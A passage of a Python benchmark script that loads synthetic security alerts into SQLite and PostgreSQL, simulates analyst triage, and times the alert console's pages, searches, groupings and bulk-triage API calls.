                "path": f"/var/log/collect/{host}/{path_key:03d}/{name}",
                "record": self.index,  # distinct: no two alerts are one
                "format": form,
            },
            "event": event,
            "classification": rule.classification,
        }

    def batch(self, number: int, batches: int, size: int) -> list[dict[str, Any]]:
        """Batch ``number`` of ``batches``: live alerts from its slice of the span, and alerts
        from hunts over anything older."""
        self.r = random.Random(self.seed * 100_003 + number)
        self.index = number * BATCH
        r = self.r
        start = END - SPAN
        alerts = []
        for _ in range(size):
            if r.random() < LIVE:
                at: datetime | None = start + SPAN * ((number + r.random()) / batches)
            else:
                at = start + SPAN * ((number + 1) / batches) * r.random()
            if r.random() < UNTIMED:
                at = None
            rule = r.choices(range(len(self.rules)), cum_weights=self.rule_weights)[0]
            alerts.append(self.alert(rule, at, number))
        return alerts


# --------------------------------------------------------------------------- building


_GENERATOR: Generator | None = None


def _make_batch(job: tuple[int, int, int]) -> bytes:
    number, batches, size = job
    assert _GENERATOR is not None
    return orjson.dumps(_GENERATOR.batch(number, batches, size))


def batches(generator: Generator, count: int) -> Iterator[bytes]:
    """``count`` alerts as JSON batches of :data:`BATCH`, built by a second process (forked,
    so it shares the generator) while the caller ingests the previous ones."""
    global _GENERATOR
    _GENERATOR = generator
    number = max(1, math.ceil(count / BATCH))
    jobs = [(n, number, min(BATCH, count - n * BATCH)) for n in range(number)]
    context = multiprocessing.get_context("fork")
    with context.Pool(1) as pool:
        yield from pool.imap(_make_batch, jobs, chunksize=1)


@dataclass
class Loaded:
    organisation: int
    other: int
    analyst: int
    token: str
    email: str
    totp: str
    seconds: float = 0.0
    alerts: int = 0
    triage_seconds: float = 0.0
    analyse_seconds: float = 0.0
    statuses: dict[str, int] = field(default_factory=dict)


def _setup(url: str) -> Loaded:
    """Migrate; two organisations, an analyst with TOTP (and a colleague) in the first, and an
    API token (alerts read and triage)."""
    import pyotp

    from qorgan.core import accounts
    from qorgan.core.db import make_engine, session_factory, unit_of_work
    from qorgan.core.models import OrganisationKind, Role
    from qorgan.core.settings import get_settings
    from qorgan.migrations import upgrade

    settings = get_settings(database_url=url)
    upgrade(settings)
    engine = make_engine(settings)
    try:
        with unit_of_work(session_factory(engine)) as session:
            ours = accounts.create_organisation(
                session=session, actor="bench", name="Almaty akimat", kind=OrganisationKind.akimat
            )
            theirs = accounts.create_organisation(
                session=session, actor="bench", name="Astana akimat", kind=OrganisationKind.akimat
            )
            users = []
            for n, email in enumerate(("analyst@bench.example.kz", "colleague@bench.example.kz")):
                user = accounts.create_user(
                    session=session,
                    actor="bench",
                    organisation_id=ours.id,
                    email=email,
                    display_name=f"Bench Analyst {n + 1}",
                    role=Role.soc_analyst,
                    password=PASSWORD,
                    language="en",
                )
                user.totp_secret = pyotp.random_base32()
                users.append(user)
            token = accounts.issue_token(
                session=session,
                user=users[0],
                name="bench",
                scopes=["alerts:read", "alerts:triage"],
            )
            session.flush()
            return Loaded(
                ours.id, theirs.id, users[0].id, token, users[0].email, users[0].totp_secret or ""
            )
    finally:
        engine.dispose()


def ingest_all(url: str, organisation: int, generator: Generator, count: int, label: str) -> float:
    """Every batch through the ingestion service, one transaction each; seconds taken."""
    from pydantic import TypeAdapter

    from qorgan.core.db import make_engine, session_factory, unit_of_work
    from qorgan.core.settings import get_settings
    from qorgan.incidents.alerts import ingest
    from qorgan.incidents.schemas import AlertIn

    adapter = TypeAdapter(list[AlertIn])
    engine = make_engine(get_settings(database_url=url))
    factory = session_factory(engine)
    began = time.perf_counter()
    done = 0
    try:
        for raw in batches(generator, count):
            alerts = adapter.validate_json(raw)
            with unit_of_work(factory) as session:
                result = ingest(
                    session=session, organisation_id=organisation, alerts=alerts, actor="bench"
                )
            if result.created != len(alerts):
                raise SystemExit(f"{label}: {result.duplicates} duplicates in a batch")
            done += len(alerts)
            if done % 100_000 < BATCH:
                elapsed = time.perf_counter() - began
                print(
                    f"  {label}: {done:,} alerts in {elapsed:.0f} s ({done / elapsed:,.0f}/s), "
                    f"load {os.getloadavg()[0]:.1f}",
                    flush=True,
                )
    finally:
        engine.dispose()
    return time.perf_counter() - began


@contextmanager
def connect(url: str) -> Iterator[tuple[Any, str]]:
    """A plain DB-API connection to the database (benchmarks leave SQLAlchemy to the services),
    and its dialect's name."""
    from qorgan.core.db import make_engine
    from qorgan.core.settings import get_settings

    engine = make_engine(get_settings(database_url=url))
    connection = engine.raw_connection()
    try:
        yield connection, engine.dialect.name
    finally:
        connection.close()
        engine.dispose()


def sql(connection: Any, dialect: str, statement: str, *params: Any) -> list[tuple[Any, ...]]:
    """Run one statement (``?`` placeholders) and commit; its rows."""
    cursor = connection.cursor()
    if dialect == "postgresql":
        statement = statement.replace("?", "%s")
        params = tuple(p.astimezone(UTC) if isinstance(p, datetime) else p for p in params)
    else:  # as SQLAlchemy stores aware times on SQLite: UTC text
        params = tuple(
            p.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f") if isinstance(p, datetime) else p
            for p in params
        )
    cursor.execute(statement, params)
    rows = cursor.fetchall() if cursor.description else []
    connection.commit()
    return rows


def triage_history(url: str, loaded: Loaded, seed: int) -> dict[str, int]:
    """What analysts did before today: of the alerts older than a week, about 14% acknowledged
    and 3% marked false positive (12% of the noisiest rules' alerts), 2% assigned; through the
    triage service, which writes one audit entry per alert. Statuses afterwards."""
    from qorgan.core.db import make_engine, session_factory, unit_of_work
    from qorgan.core.settings import get_settings
    from qorgan.incidents.triage import bulk_triage

    r = random.Random(seed)
    with connect(url) as (connection, dialect):
        noisy = {
            row[0]
            for row in sql(
                connection,
                dialect,
                "SELECT rule_id FROM alerts WHERE organisation_id = ? GROUP BY rule_id "
                "ORDER BY count(*) DESC LIMIT 5",
                loaded.organisation,
            )
        }
        rows = sql(
            connection,
            dialect,
            "SELECT id, rule_id FROM alerts WHERE organisation_id = ? AND time < ? ORDER BY id",
            loaded.organisation,
            END - timedelta(days=7),
        )
    chosen: dict[str, list[int]] = {"acknowledge": [], "false-positive": [], "assign": []}
    for alert_id, rule_id in rows:
        roll = r.random()
        false_positive = 0.12 if rule_id in noisy else 0.03
        if roll < false_positive:
            chosen["false-positive"].append(alert_id)
        elif roll < false_positive + 0.14:
            chosen["acknowledge"].append(alert_id)
        elif roll < false_positive + 0.16:
            chosen["assign"].append(alert_id)
    engine = make_engine(get_settings(database_url=url))
    factory = session_factory(engine)
    try:
        for action, ids in chosen.items():
            for start in range(0, len(ids), 50_000):
                with unit_of_work(factory) as session:
                    bulk_triage(
                        session=session,
                        organisation_id=loaded.organisation,
                        actor_id=loaded.analyst,
                        action=action,
                        alert_ids=ids[start : start + 50_000],
                        assignee_id=loaded.analyst if action == "assign" else None,
                    )
    finally:
        engine.dispose()
    with connect(url) as (connection, dialect):
        counts = sql(
            connection,
            dialect,
            "SELECT status, count(*) FROM alerts WHERE organisation_id = ? GROUP BY status",
            loaded.organisation,
        )
    return {str(status): n for status, n in counts}


def analyse(url: str) -> None:
    """Planner statistics after the bulk load, as a DBA would gather them."""
    with connect(url) as (connection, dialect):
        if dialect == "postgresql":
            connection.driver_connection.autocommit = True
            connection.cursor().execute("VACUUM ANALYZE")
        else:
            sql(connection, dialect, "ANALYZE")


def load(url: str, count: int, rules: list[Rule]) -> Loaded:
    loaded = _setup(url)
    ours = Population.make("alm", 1.0, random.Random(SEED + 1))
    theirs = Population.make("ast", 0.1, random.Random(SEED + 2))
    other = max(BATCH, count // 20)
    began = time.perf_counter()
    seconds = ingest_all(url, loaded.organisation, Generator(rules, ours, SEED), count, "ours")
    ingest_all(url, loaded.other, Generator(rules, theirs, SEED + 7), other, "theirs")
    loaded.seconds = time.perf_counter() - began
    loaded.alerts = count + other
    print(
        f"  loaded {loaded.alerts:,} alerts in {loaded.seconds:.0f} s "
        f"({loaded.alerts / loaded.seconds:,.0f}/s; ours {count / seconds:,.0f}/s)",
        flush=True,
    )
    began = time.perf_counter()
    loaded.statuses = triage_history(url, loaded, SEED + 3)
    loaded.triage_seconds = time.perf_counter() - began
    began = time.perf_counter()
    analyse(url)
    loaded.analyse_seconds = time.perf_counter() - began
    print(
        f"  statuses {loaded.statuses} (triaged in {loaded.triage_seconds:.0f} s); "
        f"analysed in {loaded.analyse_seconds:.0f} s",
        flush=True,
    )
    return loaded


# --------------------------------------------------------------------------- databases


@dataclass
class Database:
    name: str
    url: str
    postmaster: int | None = None


def _pg_ctl(server: Any, *args: str) -> None:
    subprocess.run(
        [*server.prefix, str(server.bindir / "pg_ctl"), "-D", str(server.data), *args],
        check=True,
        capture_output=True,
        text=True,
        timeout=300,
    )


@contextmanager
def postgres(keep: Path | None) -> Iterator[tuple[Database, bool]]:
    """PostgreSQL on loopback with fsync on: fresh, or (``keep``) the one kept there before.
    Yields the database and whether it was already loaded."""
    from qorgan.testing import Postgres

    bindir = Path(sorted(glob.glob("/usr/lib/postgresql/*/bin/initdb"))[-1]).parent
    server = Postgres(bindir)
    reused = False
    if keep is not None:
        shutil.rmtree(server.root, ignore_errors=True)
        server.root = keep / "postgresql"
        server.data = server.root / "data"
        reused = (server.root / "loaded.json").exists()
        if not reused:
            shutil.rmtree(server.root, ignore_errors=True)
            server.root.mkdir(parents=True)
            if server.prefix:
                shutil.chown(server.root, "postgres")
            server.root.chmod(0o700)
    try:
        if reused:
            options = f"-h 127.0.0.1 -p {server.port} -k {server.root}"
            _pg_ctl(server, "-o", options, "-l", str(server.root / "log"), "-w", "start")
            url = f"postgresql+psycopg://qorgan@127.0.0.1:{server.port}/qorgan_test_1"
        else:
            server.start(fsync=True)
            url = server.database()
        postmaster = int((server.data / "postmaster.pid").read_text().split()[0])
        yield Database("postgresql", url, postmaster), reused
    finally:
        if keep is None:
            server.stop()
        else:
            _pg_ctl(server, "-m", "fast", "stop")


@contextmanager
def sqlite(keep: Path | None) -> Iterator[tuple[Database, bool]]:
    folder = keep / "sqlite" if keep is not None else Path(tempfile.mkdtemp(prefix="qorgan-inbox-"))
    reused = (folder / "loaded.json").exists()
    if keep is not None and not reused:
        shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True, exist_ok=True)
    try:
        yield Database("sqlite", f"sqlite:///{folder / 'qorgan.db'}"), reused
    finally:
        if keep is None:
            shutil.rmtree(folder, ignore_errors=True)


def _marker(database: Database, keep: Path | None) -> Path | None:
    if keep is None:
        return None
    return keep / database.name / "loaded.json"


# --------------------------------------------------------------------------- what to ask


@dataclass
class Samples:
    """Values for the requests, drawn from the loaded alerts (a new one each repetition)."""

    hosts: list[str]
    users: list[str]
    addresses: list[str]
    rules: list[str]
    days: list[str]
    rare: list[str]
    common: list[str]
    fragments: list[str]
    cyrillic: list[str]
    pairs: list[str]
    new_ids: list[int]
    windows: list[tuple[str, str, str]]  # rule, since, until: about 10,000 new alerts each


_HEX = re.compile(r"\b[0-9a-f]{8,12}\b")
_WORD = re.compile(r"[^\W\d_]{5,}")


def samples(url: str, organisation: int, seed: int, repeat: int) -> Samples:
    r = random.Random(seed)
    week = END - timedelta(days=7)
    with connect(url) as (connection, dialect):

        def q(statement: str, *params: Any) -> list[tuple[Any, ...]]:
            return sql(connection, dialect, statement, *params)

        low, high = q(
            "SELECT min(id), max(id) FROM alerts WHERE organisation_id = ?", organisation
        )[0]
        picked = sorted(r.sample(range(low, high + 1), 3 * repeat))
        marks = ", ".join("?" * len(picked))
        rows = q(
            "SELECT host, user_name, source_ip, rule_id, search_text FROM alerts "
            f"WHERE organisation_id = ? AND id IN ({marks})",
            organisation,
            *picked,
        )
        rules = [
            row[0]
            for row in q(
                "SELECT DISTINCT rule_id FROM alerts WHERE organisation_id = ?", organisation
            )
        ]
        new_ids = [
            row[0]
            for row in q(
                "SELECT id FROM alerts WHERE organisation_id = ? AND status = 'new'", organisation
            )
        ]
        busiest = q(
            "SELECT rule_id, count(*) FROM alerts WHERE organisation_id = ? AND time >= ? "
            "AND status = 'new' GROUP BY rule_id ORDER BY count(*) DESC LIMIT 3",
            organisation,
            week,
        )
    r.shuffle(rows)
    rare = []
    for row in rows:
        found = _HEX.findall(row[4])
        if found:
            rare.append(r.choice(found))
    windows = []
    for n in range(repeat):
        rule_id, count = busiest[n % len(busiest)]
        hours = 10_000 / (count / (7 * 24))
        start = week + timedelta(hours=r.uniform(0, 7 * 24 - hours))
        until = start + timedelta(hours=hours)
        iso = "%Y-%m-%dT%H:%M:%SZ"
        windows.append((rule_id, start.strftime(iso), until.strftime(iso)))
    first = END - SPAN
    days = [(first + timedelta(days=r.randrange(60))).strftime("%Y-%m-%d") for _ in range(repeat)]
    common = ["powershell", "failed password", "mozilla", "svchost", "security-auditing",
              "sshd", "chrome", "kerberos", "users\\public", "temp"]  # fmt: skip
    cyrillic = [w.split("_")[0].lower() for w in DOC_WORDS]
    fragments = [f"{r.choice(EXTERNAL)}." for _ in range(repeat)]
    fragments[::3] = [f"10.{r.randrange(1, 64)}." for _ in fragments[::3]]
    users = [row[1] for row in rows if row[1]]
    # Two terms: a user and a word of one of their alerts (a few matches), or two common words.
    pairs = []
    for n, row in enumerate(rows):
        words = [w for w in _WORD.findall(row[4]) if w not in (row[1] or "")]
        if n % 2 and row[1] and words:
            pairs.append(f"{row[1]} {r.choice(words)}")
        elif n % 2 == 0:
            pairs.append(" ".join(r.sample(("temp", "users", "windows", "failed", "exe"), 2)))
    return Samples(
        hosts=[row[0] for row in rows if row[0]],
        users=users,
        addresses=[row[2] for row in rows if row[2]],
        rules=[r.choice(rules) if n % 2 else row[3] for n, row in enumerate(rows)],
        days=days,
        rare=rare,
        common=common,
        fragments=fragments,
        cyrillic=cyrillic,
        pairs=pairs,
        new_ids=new_ids,
        windows=windows,
    )


@dataclass
class Answer:
    status: int
    size: int | None  # how many matched (alerts, groups, or changed), when the answer says


@dataclass
class Op:
    name: str
    run: Callable[[int], Answer]
    latencies: list[float] = field(default_factory=list)
    sizes: list[int] = field(default_factory=list)
    loads: list[float] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def percentile(self, p: float) -> float:
        ordered = sorted(self.latencies)
        if not ordered:
            return math.nan
        return ordered[max(0, math.ceil(p / 100 * len(ordered)) - 1)] * 1000


_TOTAL = re.compile(r'data-total="(\d+)"')
_GROUPS = re.compile(r'data-groups-total="(\d+)"')


def _page(client: httpx.Client, params: list[tuple[str, str]]) -> Answer:
    response = client.get("/alerts", params=params)
    found = _GROUPS.search(response.text) or _TOTAL.search(response.text)
    return Answer(response.status_code, int(found.group(1)) if found else None)


def _api(client: httpx.Client, path: str, params: list[tuple[str, str]]) -> Answer:
    response = client.get(path, params=params)
    if response.status_code != 200:
        return Answer(response.status_code, None)
    body = response.json()
    size = body.get("total")
    if size is None and "points" in body:
        size = sum(p["count"] for p in body["points"])
    return Answer(200, size)


def sign_in(base: str, email: str, secret: str) -> httpx.Client:
    """A browser-like client signed in through the pages: password, then a TOTP code."""
    import pyotp

    csrf = re.compile(r'name="csrf_token" value="([^"]+)"')
    client = httpx.Client(base_url=base, timeout=600)
    page = client.get("/login")
    found = csrf.search(page.text)
    assert found, "no CSRF token on the sign-in page"
    response = client.post(
        "/login", data={"email": email, "password": PASSWORD, "csrf_token": found.group(1)}
    )
    if response.headers.get("location") == "/login/second-factor":
        page = client.get("/login/second-factor")
        found = csrf.search(page.text)
        assert found, "no CSRF token on the second-factor page"
        response = client.post(
            "/login/second-factor",
            data={"code": pyotp.TOTP(secret).now(), "csrf_token": found.group(1)},
        )
    if response.status_code != 303 or client.get("/alerts?limit=1").status_code != 200:
        raise SystemExit(f"cannot sign in: {response.status_code} {response.text[:200]}")
    return client


def operations(browser: httpx.Client, api: httpx.Client, s: Samples) -> list[Op]:
    """What a user waits for; ``run(n)`` is the n-th repetition, each with other values."""

    def pick(values: list[Any], n: int) -> Any:
        return values[n % len(values)]

    def page(*params: tuple[str, str]) -> Callable[[int], Answer]:
        return lambda n: _page(browser, list(params))

    def page_with(make: Callable[[int], list[tuple[str, str]]]) -> Callable[[int], Answer]:
        return lambda n: _page(browser, make(n))

    def api_with(
        path: str, make: Callable[[int], list[tuple[str, str]]]
    ) -> Callable[[int], Answer]:
        return lambda n: _api(api, path, make(n))

    state: dict[str, Any] = {}
    r = random.Random(SEED + 5)

    def triage_ids(action: str) -> Callable[[int], Answer]:
        def run(n: int) -> Answer:
            if action == "acknowledge":
                state["ids"] = r.sample(s.new_ids, 10_000)
            response = api.post(
                "/api/v1/alerts/triage", json={"action": action, "ids": state["ids"]}
            )
            return Answer(response.status_code, response.json().get("changed"))

        return run

    def triage_matching(action: str) -> Callable[[int], Answer]:
        def run(n: int) -> Answer:
            rule, since, until = pick(s.windows, n)
            status = "new" if action == "acknowledge" else "acknowledged"
            query = urlencode({"rule": rule, "since": since, "until": until, "status": status})
            response = api.post(
                f"/api/v1/alerts/triage?{query}", json={"action": action, "all_matching": True}
            )
            return Answer(response.status_code, response.json().get("changed"))

        return run

    A = "/api/v1/alerts"
    day = "since", "until"
    ops = [
        ("page: default view (new, newest first)", page()),
        ("page: level high + critical", page(("level", "high"), ("level", "critical"))),
        ("page: host", page_with(lambda n: [("host", pick(s.hosts, n))])),
        ("page: rule", page_with(lambda n: [("rule", pick(s.rules, n))])),
        ("page: user", page_with(lambda n: [("user", pick(s.users, n))])),
        ("page: address", page_with(lambda n: [("address", pick(s.addresses, n))])),
        ("page: one day", page_with(lambda n: [(k, pick(s.days, n)) for k in day])),
        (
            "page: any status, host, by level",
            page_with(
                lambda n: [("status", ""), ("host", pick(s.hosts, n + 7)), ("sort", "-level")]
            ),
        ),
        ("page: group by rule", page(("group", "rule"))),
        ("page: group by host", page(("group", "host"))),
        ("page: group by rule and host", page(("group", "rule_host"))),
        ("page: group by user", page(("group", "user"))),
        (
            "page: group by rule, one day",
            page_with(lambda n: [("group", "rule"), *((k, pick(s.days, n + 3)) for k in day)]),
        ),
        ("page: search, rare term", page_with(lambda n: [("q", pick(s.rare, n))])),
        ("page: search, common term", page_with(lambda n: [("q", pick(s.common, n))])),
        ("page: search, address fragment", page_with(lambda n: [("q", pick(s.fragments, n))])),
        ("page: search, Cyrillic word", page_with(lambda n: [("q", pick(s.cyrillic, n))])),
        ("page: search, two terms", page_with(lambda n: [("q", pick(s.pairs, n))])),
        ("api: list, any status", api_with(A, lambda n: [])),
        (
            "api: list, new, host",
            api_with(A, lambda n: [("status", "new"), ("host", pick(s.hosts, n + 11))]),
        ),
        ("api: search, common term", api_with(A, lambda n: [("q", pick(s.common, n + 1))])),
        ("api: search, rare term", api_with(A, lambda n: [("q", pick(s.rare, n + 5))])),
    ]
    for by in ("rule", "host", "user"):
        groups = [("by", by), ("status", "new")]
        ops.append((f"api: groups by {by}, new", api_with(f"{A}/groups", lambda n, g=groups: g)))
    chart = [("status", "new"), ("bucket", "auto")]
    ops += [
        ("api: timeline, new (the chart)", api_with(f"{A}/timeline", lambda n: chart)),
        (
            "api: timeline, new, host",
            api_with(f"{A}/timeline", lambda n: [*chart, ("host", pick(s.hosts, n + 13))]),
        ),
        ("triage: 10,000 ids, acknowledge", triage_ids("acknowledge")),
        ("triage: 10,000 ids, reopen", triage_ids("reopen")),
        ("triage: all matching ~10,000, acknowledge", triage_matching("acknowledge")),
        ("triage: all matching ~10,000, reopen", triage_matching("reopen")),
    ]
    return [Op(name, run) for name, run in ops]


def measure(ops: list[Op], repeat: int) -> None:
    """Each operation ``repeat`` times, interleaved (one of each, then again)."""
    for n in range(repeat):
        for op in ops:
            load = os.getloadavg()[0]
            began = time.perf_counter()
            try:
                answer = op.run(n)
            except httpx.HTTPError as exc:
                op.errors.append(f"{type(exc).__name__}: {exc}")
                continue
            elapsed = time.perf_counter() - began
            if answer.status != 200:
                op.errors.append(f"HTTP {answer.status}")
                continue
            op.latencies.append(elapsed)
            op.loads.append(load)
            if answer.size is not None:
                op.sizes.append(answer.size)
        print(f"  repetition {n + 1}/{repeat} done, load {os.getloadavg()[0]:.1f}", flush=True)


# --------------------------------------------------------------------------- reporting


def table(name: str, ops: list[Op]) -> str:
    head = ("operation", "n", "p50 ms", "p95 ms", "max ms", "matched (median)", "load")
    rows = [head]
    for op in ops:
        sizes = sorted(op.sizes)
        rows.append(
            (
                f"{name}: {op.name}",
                str(len(op.latencies)),
                f"{op.percentile(50):,.0f}",
                f"{op.percentile(95):,.0f}",
                f"{op.percentile(100):,.0f}",
                f"{sizes[len(sizes) // 2]:,}" if sizes else "",
                f"{sum(op.loads) / len(op.loads):.1f}" if op.loads else "",
            )
        )
    widths = [max(len(row[i]) for row in rows) for i in range(len(head))]
    lines = []
    for n, row in enumerate(rows):
        cells = [c.ljust(widths[i]) if i == 0 else c.rjust(widths[i]) for i, c in enumerate(row)]
        lines.append("  ".join(cells).rstrip())
        if n == 0:
            lines.append("  ".join("-" * w for w in widths))
    return "\n".join(lines)


def run(
    database: Database, reused: bool, keep: Path | None, args: argparse.Namespace
) -> dict[str, Any]:
    marker = _marker(database, keep)
    if reused and marker is not None:
        saved = json.loads(marker.read_text())
        if saved.get("alerts_ours") != args.alerts:
            raise SystemExit(f"{marker} holds {saved.get('alerts_ours')} alerts; remove it")
        loaded = Loaded(**saved["loaded"])
        print(f"{database.name}: reusing the database kept in {marker.parent}", flush=True)
    else:
        print(f"{database.name}: loading {args.alerts:,} alerts ...", flush=True)
        loaded = load(database.url, args.alerts, load_rules(random.Random(SEED)))
        if marker is not None:
            marker.write_text(
                json.dumps({"alerts_ours": args.alerts, "loaded": loaded.__dict__}, default=str)
            )
    s = samples(database.url, loaded.organisation, SEED + 4, args.repeat)
    workdir = Path(tempfile.mkdtemp(prefix="qorgan-inbox-console-"))
    try:
        with console(database.url, workdir) as (base, server):
            browser = sign_in(base, loaded.email, loaded.totp)
            api = httpx.Client(
                base_url=base, timeout=600, headers={"Authorization": f"Bearer {loaded.token}"}
            )
            with closing(browser), closing(api):
                ops = operations(browser, api, s)
                if args.only:
                    ops = [op for op in ops if any(w in op.name for w in args.only.split(","))]
                _page(browser, [])  # the first request of a process imports templates
                cpu = (
                    cpu_seconds(server.pid),
                    (cpu_seconds(database.postmaster, children=True) if database.postmaster else 0),
                )
                began = time.perf_counter()
                measure(ops, args.repeat)
                seconds = time.perf_counter() - began
                cpu = (
                    cpu_seconds(server.pid) - cpu[0],
                    (
                        (cpu_seconds(database.postmaster, children=True) - cpu[1])
                        if database.postmaster
                        else 0
                    ),
                )
            problems = [f"{op.name}: {op.errors[0]} ({len(op.errors)})" for op in ops if op.errors]
            if problems:
                print("  errors:", *problems, f"server log: {tail(workdir)}", sep="\n  ")
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    print()
    print(table(database.name, ops))
    print(
        f"  {seconds:.0f} s of requests; CPU s: console {cpu[0]:.0f}, PostgreSQL {cpu[1]:.0f}; "
        f"load {os.getloadavg()[0]:.1f}",
        flush=True,
    )
    return {
        "database": database.name,
        "loaded": loaded.__dict__,
        "ops": [
            {
                "name": op.name,
                "n": len(op.latencies),
                "p50": op.percentile(50),
                "p95": op.percentile(95),
                "max": op.percentile(100),
                "matched": sorted(op.sizes)[len(op.sizes) // 2] if op.sizes else None,
                "load": sum(op.loads) / len(op.loads) if op.loads else None,
                "errors": op.errors[:3],
            }
            for op in ops
        ],
        "seconds": seconds,
        "cpu": cpu,
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--alerts", type=int, default=1_000_000)
    parser.add_argument("--db", choices=("sqlite", "postgresql", "both"), default="both")
    parser.add_argument("--repeat", type=int, default=30, help="repetitions of each request")
    parser.add_argument("--keep", type=Path, help="keep the loaded databases here, and reuse")
    parser.add_argument("--only", help="only operations whose names hold one of these (a,b)")
    parser.add_argument("--json", type=Path, help="write the figures here too")
    args = parser.parse_args()
    if args.alerts < 20_000 or args.repeat < 1:
        parser.error("--alerts must be at least 20,000 and --repeat at least 1")
    keep = args.keep.resolve() if args.keep else None
    print(
        f"{os.cpu_count()} cores, shared by the client, the console and the database; "
        f"load average {os.getloadavg()[0]:.1f}",
        flush=True,
    )
    results = []
    if args.db in ("sqlite", "both"):
        with sqlite(keep) as (database, reused):
            results.append(run(database, reused, keep, args))
    if args.db in ("postgresql", "both"):
        if not glob.glob("/usr/lib/postgresql/*/bin/initdb"):
            print("postgresql: skipped (no initdb: install Debian's postgresql package)")
        elif importlib.util.find_spec("psycopg") is None:
            print("postgresql: skipped (psycopg is not installed)")
        else:
            with postgres(keep) as (database, reused):
                results.append(run(database, reused, keep, args))
    if args.json:
        args.json.write_text(json.dumps(results, indent=1, default=str))
    failed = any(op["errors"] for result in results for op in result["ops"])
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
